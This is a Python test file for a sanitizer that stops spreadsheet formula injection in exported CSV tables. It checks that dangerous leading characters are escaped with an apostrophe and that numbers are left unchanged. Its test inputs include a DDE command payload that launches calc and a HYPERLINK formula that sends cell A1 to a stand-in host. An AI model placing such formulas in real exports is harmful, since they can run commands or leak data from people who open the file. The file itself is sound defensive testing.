"""A text is never a formula of a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from instructzero.bench.tables import to_csv
from instructzero.exports.spreadsheet import without_formula

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULA = '=HYPERLINK("https://example.invalid/"&A1)'


@pytest.mark.parametrize(
    "text", ["-1.5", "+0.012", "-3", " -1.5 ", "-1e-05", "+.5", "cat", "a=b", "1+1", "", "'tis", " "]
)
def test_number_and_harmless_text_stay(text: str) -> None:
    assert without_formula(text) == text


@pytest.mark.parametrize("before", ["", " ", "'", '"', ' "', "\N{NO-BREAK SPACE}", "\ufeff", "\0"])
@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_formula_after_quotes_and_spaces_becomes_text(before: str, beginning: str) -> None:
    if before and beginning.isspace():
        return
    text = f"{before}{beginning}cmd|' /C calc'!A0"
    assert without_formula(text) == f"'{text}"


@settings(max_examples=500, deadline=None)
@example("\t")
@given(st.text(st.sampled_from("=+-@\t\r '\"1.e") | st.characters(), max_size=8))
def test_changed_text_is_the_original_after_one_apostrophe(text: str) -> None:
    shown = str(without_formula(text))
    assert shown in (text, f"'{text}")
    assert shown == text or not shown.startswith(BEGINNINGS)
    assert (shown == f"'{text}") == (without_formula(shown) != shown)  # so that it can be told which were changed


def test_numbers_that_are_no_texts_stay() -> None:
    assert [without_formula(value) for value in (-1.5, -2, None)] == [-1.5, -2, None]


def test_tables_of_a_bench_hold_no_formula() -> None:
    content = to_csv([("method", "instruction"), ("-m", FORMULA), ("uniform", -0.5)])
    assert list(csv.reader(io.StringIO(content)))[1:] == [["'-m", f"'{FORMULA}"], ["uniform", "-0.5"]]
